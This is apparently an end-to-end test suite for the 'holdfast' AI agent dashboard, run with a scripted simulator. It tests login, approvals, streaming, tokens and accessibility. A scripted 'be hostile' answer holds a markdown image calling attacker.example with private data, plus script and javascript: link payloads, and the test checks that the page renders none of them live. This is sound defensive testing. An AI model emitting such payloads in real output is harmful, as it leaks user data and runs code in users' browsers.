import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page, WebSocketRoute } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScenarioInput } from '../../src/simulator/scenario.ts';
import { createWorld, type World } from '../../src/testing/world.ts';
import { findChromium, launchBrowser, overflowOf, seriousFindings, type TestBrowser, watchPage } from './browser.ts';
import { buildDashboard } from './build-dashboard.ts';

const chromiumPath = await findChromium();
if (!chromiumPath) console.log('dashboard: skipped, because no chromium is on the PATH (Debian: apt install chromium)');

/** What the guided tour does not do. */
const SCRIPTS: ScenarioInput = {
  name: 'dashboard',
  rules: [
    // Messages without an answer stand in the next request too, so the later message's rule comes first.
    {
      when: { request: 'be hostile' },
      answer: {
        text: 'Look: ![chart](https://attacker.example/?q=private) <img src="https://attacker.example/2"> <script>document.title = "owned"</script> [run](javascript:alert(1))',
      },
    },
    {
      when: { request: 'use the wrong key' },
      answer: { fault: { type: 'http', status: 401, message: 'Incorrect API key provided.' } },
    },
    {
      when: { request: 'count slowly' },
      answer: { text: 'one two three four five six seven eight nine ten '.repeat(40), chunkChars: 4, paceMs: 25 },
    },
  ],
};

/** The real product (vault, simulator, host, bubblewrap) driven through its page, as its owner would. */
describe.skipIf(!chromiumPath)('the dashboard', () => {
  let folder: string;
  let world: World;
  let browser: TestBrowser;
  let context: BrowserContext;
  let page: Page;
  let watch: { readonly complaints: readonly string[] };
  let hasSandbox = false;
  const sockets: WebSocketRoute[] = [];

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'holdfast-folder-'));
    await chmod(folder, 0o755); // a sandbox never runs as root
    await mkdir(join(folder, 'notes'));
    await writeFile(join(folder, 'notes/plan.md'), '# Plan\n');
    await writeFile(join(folder, 'numbers.csv'), 'a,b\n1,2\n');
    await buildDashboard();
    world = await createWorld({ scenarios: [SCRIPTS] });
    const { sandbox } = await world.host.control.status();
    hasSandbox = sandbox.available;
    if (!hasSandbox)
      console.log(`dashboard: the worker's job is skipped, because there is no sandbox (${sandbox.reason})`);
    browser = await launchBrowser(chromiumPath ?? '');
    context = await browser.newContext({ colorScheme: 'light', viewport: { width: 1_200, height: 800 } });
    page = await context.newPage();
    await page.routeWebSocket(/\/api\/events/, (socket) => {
      socket.connectToServer();
      sockets.push(socket);
    });
    watch = watchPage(page, world.host.api.url);
  }, 120_000);
  afterAll(async () => {
    await browser?.[Symbol.asyncDispose]();
    await world?.[Symbol.asyncDispose]();
    await rm(folder, { recursive: true, force: true });
  });

  const say = async (text: string): Promise<void> => {
    await page.locator('[data-composer]').fill(text);
    await page.keyboard.press('Enter');
  };
  const loginLink = async (): Promise<string> => (await world.host.api.createLoginLink()).url;
  const prose = (text: string | RegExp) => page.locator('.prose', { hasText: text }).first();
  const turns = () => page.locator('article');

  it('lets nobody in without a login and says how to get in', async () => {
    const stranger = await browser.newContext();
    const visit = await stranger.newPage();
    expect((await visit.goto(world.host.api.url))?.status()).toBe(401);
    await visit.getByText('holdfast dashboard').waitFor();
    await stranger.close();
  });

  it('opens by a link that works once', async () => {
    const link = await loginLink();
    await page.goto(link);
    await page.getByText('Simulator: scripted answers, no AI.').waitFor();
    const second = await browser.newContext();
    const visit = await second.newPage();
    await visit.goto(link);
    await visit.goto(world.host.api.url);
    expect(await visit.locator('[data-composer]').count()).toBe(0);
    await second.close();
  });

  it('streams an answer to a message that was begun with /', async () => {
    await page.getByRole('heading', { name: 'Operator', exact: true }).click();
    await page.keyboard.press('Escape');
    await page.evaluate('document.activeElement.blur()');
    await page.keyboard.press('/');
    await page.keyboard.type('hello');
    await page.keyboard.press('Enter');
    await prose('Name a folder on this machine').waitFor();
    expect(await turns().count()).toBe(1);
  });

  it('keeps a message that could not be sent, names the error, and sends it once', async () => {
    await page.route('**/messages', (route) => route.abort(), { times: 1 });
    await say('who are you');
    await page.getByRole('alert').getByText('unreachable').waitFor();
    const box = page.locator('[data-composer]');
    expect(await box.inputValue()).toBe('who are you');
    await box.focus();
    await page.keyboard.press('Enter');
    await prose('I play the operator').waitFor();
    expect(await turns().count()).toBe(2);
  });

  it('stops an answer when the user says so', async () => {
    await say('count slowly');
    await page.getByText('one two three').first().waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await turns().last().getByText('Stopped').waitFor();
    await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' });
  });

  it('names the error of a failed answer and what to do', async () => {
    await say('use the wrong key');
    const alert = turns().last().getByRole('alert');
    await alert.getByText('model.auth').waitFor();
    expect(await alert.locator('p').count()).toBe(2);
  });

  it('lets no text of a model act, load or lead to a script', async () => {
    await say('be hostile');
    const answer = turns().last().locator('.prose');
    await answer.getByRole('link', { name: 'image: chart' }).waitFor();
    await answer.getByText('<script>').waitFor();
    expect(await answer.locator('img, script, [href^="javascript"]').count()).toBe(0);
    expect(await page.title()).toContain('Holdfast');
  });

  it('shows who answered a question elsewhere', async () => {
    await say(`look through ${folder}`);
    await page.getByRole('button', { name: 'Allow', exact: true }).waitFor();
    const [approval] = await world.host.control.approvals('pending');
    await world.host.control.decideApproval(approval?.id ?? '', 'deny', { id: 'owner', surface: 'cli' });
    await page.getByText('Denied by owner (cli)').waitFor();
    await prose('nothing was read').waitFor();
  });

  it('asks before a worker reads a folder; the keyboard is enough', async () => {
    await say(`look through ${folder}`);
    await page.getByRole('button', { name: '1 approval' }).waitFor();
    await page
      .getByRole('region', { name: /^Approval:/ })
      .getByText(folder)
      .waitFor();
    await page.getByRole('button', { name: 'Allow', exact: true }).focus();
    await page.keyboard.press('Enter');
    await page.getByText('Allowed by owner (web)').waitFor();
    await page.getByRole('button', { name: 'No approvals' }).waitFor();
  });

  it('shows each step of the worker, then its result and the report', async (test) => {
    test.skip(!hasSandbox, 'no sandbox on this machine');
    const worker = page.getByRole('region', { name: 'Worker data_analyst' }).last();
    await worker.getByText('run_command').first().waitFor();
    await worker.getByText('done', { exact: true }).waitFor({ timeout: 60_000 });
    await prose('The worker is done').waitFor();
    await worker.getByRole('button', { name: /steps/ }).click();
    await worker.getByText('exit 0').first().waitFor();
    await worker.getByRole('button', { name: /^report\.md/ }).click();
    await page.getByRole('dialog').getByText('What is in this folder').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
  }, 90_000);

  it('comes back by itself after a lost connection, and shows everything once', async () => {
    const before = await turns().count();
    const session = (await world.host.control.sessions('operator'))[0];
    const lost = sockets.length;
    const principal = { id: 'owner', surface: 'cli' };
    await sockets.at(-1)?.close({ code: 1_012 });
    const text = { text: 'hello from the terminal', ...(session ? { sessionId: session.id } : {}) };
    await world.host.control.send('operator', text, principal);
    await turns().nth(before).getByText('Timeline').last().waitFor();
    expect(sockets.length).toBeGreaterThan(lost);
    expect(await turns().count()).toBe(before + 1);
    expect(await turns().nth(before).locator('.prose').count()).toBe(1);
  });

  it('shows the same after a reload', async () => {
    const before = await turns().count();
    await page.reload();
    await turns()
      .nth(before - 1)
      .getByText('Timeline')
      .last()
      .waitFor();
    expect(await turns().count()).toBe(before);
  });

  it('starts a new session and keeps the old one in the list', async () => {
    await page.getByRole('button', { name: 'New session' }).click();
    await page.getByRole('heading', { name: /^Talk to/ }).waitFor();
    await page.getByRole('button', { name: 'Sessions', exact: true }).click();
    await page.getByRole('dialog').getByRole('link', { name: /hello/ }).click();
    await turns().first().waitFor();
  });

  it('goes to each page by keyboard', async () => {
    await page.evaluate('document.activeElement.blur()');
    for (const [key, title] of Object.entries({ a: 'Agents', r: 'Runs', b: 'Budget', s: 'Status' })) {
      await page.keyboard.press('g');
      await page.keyboard.press(key);
      await page.getByRole('heading', { level: 1, name: title }).waitFor();
    }
  });

  it('shows a new token once and revokes it', async () => {
    await page.getByLabel('What the token is for').fill('backup script');
    await page.getByRole('button', { name: 'Create token' }).click();
    const token = await page.getByRole('dialog').locator('code').innerText();
    const bearer = { headers: { authorization: `Bearer ${token}` } };
    expect((await fetch(`${world.host.api.url}/api/agents`, bearer)).status).toBe(200);
    await page.getByRole('button', { name: 'Done' }).click();
    expect(await page.getByText(token).count()).toBe(0);
    await page.getByRole('button', { name: 'Revoke backup script' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
    await page.getByText('No tokens yet.').waitFor();
    expect((await fetch(`${world.host.api.url}/api/agents`, bearer)).status).toBe(401);
  });

  it('opens a timeline to arguments, decision and output', async (test) => {
    test.skip(!hasSandbox, 'no sandbox on this machine');
    const worker = (await world.host.control.runs({ limit: 50 })).find((run) => run.kind === 'worker');
    await page.goto(`${world.host.api.url}/runs/${worker?.parentRunId}`);
    await page
      .getByRole('button', { name: /^run_command/ })
      .first()
      .click();
    await page.getByText('Decision: allow').waitFor();
    await page.getByLabel('Arguments of run_command').waitFor();
    await page.getByLabel('Output of run_command').waitFor();
  });

  for (const [colorScheme, width] of [
    ['light', 1_280],
    ['dark', 360],
  ] as const) {
    it(`is accessible and fits: ${colorScheme}, ${width} px`, async () => {
      const own = await browser.newContext({ colorScheme, viewport: { width, height: 740 }, bypassCSP: true });
      const visit = await own.newPage();
      await visit.goto(await loginLink());
      await visit.locator('h1').first().waitFor();
      const [run] = await world.host.control.runs({ limit: 1 });
      for (const path of ['/', '/agents', '/runs', `/runs/${run?.id}`, '/budget', '/status', '/nowhere']) {
        await visit.goto(world.host.api.url + path);
        await visit.locator('h1').first().waitFor();
        await visit.locator('.skeleton').first().waitFor({ state: 'detached' });
        expect(await seriousFindings(visit), `${path} in ${colorScheme}`).toEqual([]);
        expect(await overflowOf(visit), `${path} at ${width} px`).toBeLessThanOrEqual(0);
      }
      await own.close();
    }, 120_000);
  }

  it('ends the login', async () => {
    await page.goto(`${world.host.api.url}/status`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('holdfast dashboard').waitFor();
  });

  it('never broke its content policy, threw, or asked another host for anything', () => {
    const expected = /ERR_FAILED|status of 401|\/api\/events/;
    expect(watch.complaints.filter((text) => !expected.test(text))).toEqual([]);
  });
});
